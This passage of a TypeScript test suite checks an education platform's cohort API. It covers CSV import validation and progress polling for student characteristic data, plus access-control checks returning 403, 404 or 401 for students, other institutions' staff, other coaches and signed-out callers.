      { row: 3, column: 'gender', message: '“X” is not an allowed value of gender.' },
      { row: 3, column: 'studied_credits', message: 'Enter a number. (“abc”)' },
      { row: 3, column: 'modules', message: '“ZZZ” is not an allowed value of modules.' },
      { row: 4, column: 'student', message: '“99999999” is not a student of this coach.' },
      { row: 5, column: 'student', message: `“${studentEmailOf(b!)}” is listed more than once.` },
    ]);
    const real = await staff.request<Record<string, string[]>>(
      'POST',
      `${API.mtsImport(coachA)}?source=registrar`,
      {
        body: csv,
        contentType: 'text/csv',
      },
    );
    expect(real.status).toBe(400);
    expect(real.body['row_3.gender']).toEqual(['“X” is not an allowed value of gender.']);
    expect(real.body.non_field_errors).toHaveLength(1);
    expect(await snapshot()).toBe(before);
    const malformed = await staff.request('POST', `${API.mtsImport(coachA)}?source=registrar&dry_run=true`, {
      body: 'student,gender\n"unclosed,F\n',
      contentType: 'text/csv',
    });
    expect(malformed.status).toBe(200);
    expect(ImportReportSchema.parse(malformed.body).errors[0]!.message).toMatch(/not valid CSV/);
    const badHeader = await staff.request('POST', `${API.mtsImport(coachA)}?source=registrar&dry_run=true`, {
      body: 'who,shoe_size\n1,2\n',
      contentType: 'text/csv',
    });
    expect(ImportReportSchema.parse(badHeader.body).errors.map((e) => e.column)).toEqual([
      'who',
      'shoe_size',
    ]);
    const noSource = await staff.request('POST', `${API.mtsImport(coachA)}?dry_run=true`, {
      body: csv,
      contentType: 'text/csv',
    });
    expect(noSource.status).toBe(400);
    expect(noSource.body).toEqual({ source: ['This field is required.'] });
  });

  it('imports a source’s values all at once with progress, then re-syncs the groups', async () => {
    const rules: RefRule[] = [{ characteristic: 'region', operation: 'equal to', value: 'Wales' }];
    const cohort = await createGroup(coachD, 'Wales (import)', rules);
    const welsh = ref.members(Q, rules);
    const others = idsOf(Q)
      .filter((id) => !welsh.includes(id))
      .slice(0, 25);
    // A survey source says 25 more students live in Wales.
    const csv = ['student,region', ...others.map((id) => `${id},Wales`)].join('\n');
    const res = await staff.request('POST', `${API.mtsImport(coachD)}?source=survey`, {
      body: csv,
      contentType: 'text/csv',
    });
    expect(res.status, res.text).toBe(202);
    const started = ImportReportSchema.parse(res.body);
    expect(started).toMatchObject({ state: 'started', rows_total: 25, dry_run: false, errors: [] });
    let status = started;
    for (let i = 0; i < 200 && status.state === 'started'; i++) {
      await new Promise((r) => setTimeout(r, 50));
      status = ImportReportSchema.parse((await staff.get(API.mtsImportStatus(coachD, started.id!))).body);
    }
    expect(status).toMatchObject({ state: 'success', rows_done: 25 });
    const task = await waitForSync(coachD, cohort.id);
    expect(task.state).toBe('success');
    expect((await getCohort(coachD, cohort.id)).membership_count).toBe(welsh.length + others.length);
    const dict = DictionaryDataSchema.parse((await staff.get(API.mtsDictionaryData(coachD))).body);
    expect(dict.characteristics.find((c) => c.name === 'region')!.sources).toEqual(['registrar', 'survey']);
    // Clean up so the other tests' reference values stay true.
    await ctx.database.query(
      `delete from student_characteristic_values where source_id = (select id from tailoring_sources where name = 'survey')`,
    );
  });
});

describe('access', () => {
  let otherStaff: Browser;
  let otherInstitution: number;
  let cohortId: number;
  let ruleId: number;
  let groupId: number;
  beforeAll(async () => {
    const cohort = await createGroup(coachA, 'Access target', [
      { characteristic: 'gender', operation: 'equal to', value: 'F' },
    ]);
    cohortId = cohort.id;
    ruleId = cohort.rules[0]!.id;
    groupId = (await staff.post<{ id: number }>(API.cohortGroups(coachA), { name: 'Access collection' })).body
      .id;
    ({ institutionId: otherInstitution } = await insertOtherInstitution(ctx, {
      name: 'Other tailoring U',
      slug: 'other-tailoring',
      email: 'staff@other-tailoring.edu',
      userName: 'Other',
      role: 'admin',
    }));
    otherStaff = await ctx.signIn('staff@other-tailoring.edu');
  });
  afterAll(async () => {
    await ctx.database.query('delete from institutions where id = $1', [otherInstitution]);
  });

  const routes = (): Array<[string, string, unknown?]> => [
    ['GET', API.mtsDictionaryData(coachA)],
    ['GET', API.enrollmentDetails(coachA)],
    ['GET', API.cohortGroups(coachA)],
    ['POST', API.cohortGroups(coachA), { name: 'x' }],
    ['PUT', API.cohortGroup(coachA, groupId), { name: 'x' }],
    ['DELETE', API.cohortGroup(coachA, groupId)],
    ['GET', API.cohorts(coachA)],
    ['POST', API.cohorts(coachA), { name: 'x' }],
    ['GET', API.cohort(coachA, cohortId)],
    ['PUT', API.cohort(coachA, cohortId), { name: 'x' }],
    ['DELETE', API.cohort(coachA, cohortId)],
    ['GET', API.cohortRules(coachA, cohortId)],
    [
      'POST',
      API.cohortRules(coachA, cohortId),
      { characteristic: 'gender', operation: 'equal to', value: 'M' },
    ],
    [
      'PUT',
      API.cohortRule(coachA, cohortId, ruleId),
      { characteristic: 'gender', operation: 'equal to', value: 'M' },
    ],
    ['DELETE', API.cohortRule(coachA, cohortId, ruleId)],
    ['GET', API.cohortUsers(coachA, cohortId)],
    ['GET', API.cohortUsersCsv(coachA, cohortId)],
    ['GET', API.tailoringDistribution(coachA, cohortId)],
    ['GET', API.cohortMembershipUpdate(coachA, cohortId)],
    ['POST', API.cohortMembershipUpdate(coachA, cohortId)],
    ['POST', `${API.mtsImport(coachA)}?source=registrar&dry_run=true`, 'csv'],
    ['GET', API.mtsImportStatus(coachA, 1)],
  ];

  const send = (browser: Browser, method: string, url: string, body: unknown) =>
    body === 'csv'
      ? browser.request(method, url, { body: 'student,gender\n', contentType: 'text/csv' })
      : browser.request(method, url, body === undefined ? {} : { json: body });

  it('students of the coach get 403 on every tailoring route; nothing changes', async () => {
    const student = await ctx.signIn(studentEmailOf(ref.populations.get(P)![0]!));
    for (const [method, url, body] of routes()) {
      const res = await send(student, method, url, body);
      expect(res.status, `${method} ${url}`).toBe(403);
      expect(res.body).toEqual({ detail: expect.any(String) });
    }
    expect((await getCohort(coachA, cohortId)).name).toBe('Access target');
  });

  it('staff of another institution get 404; signed-out callers 401', async () => {
    for (const [method, url, body] of routes()) {
      const res = await send(otherStaff, method, url, body);
      expect(res.status, `${method} ${url}`).toBe(404);
      const anon = await send(ctx.browser(), method, url, body);
      expect(anon.status, `anonymous ${method} ${url}`).toBe(401);
    }
  });

  it('the coach’s instructor may use them; objects of another coach answer 404', async () => {
    const instructor = await ctx.signIn(instructorEmailOf(P));
    expect((await instructor.get(API.cohort(coachA, cohortId))).status).toBe(200);
    const otherCoach = await ctx.signIn(instructorEmailOf(Q));
    expect((await otherCoach.get(API.cohorts(coachA))).status).toBe(404);
    // Staff asking for coach A's group under coach D's path.
    expect((await staff.get(API.cohort(coachD, cohortId))).status).toBe(404);
    expect((await staff.get(API.cohortUsers(coachD, cohortId))).status).toBe(404);
    expect((await staff.request('DELETE', API.cohortRule(coachD, cohortId, ruleId))).status).toBe(404);
    expect((await staff.get(API.cohort(coachA, 'abc'))).status).toBe(404);
  });
});
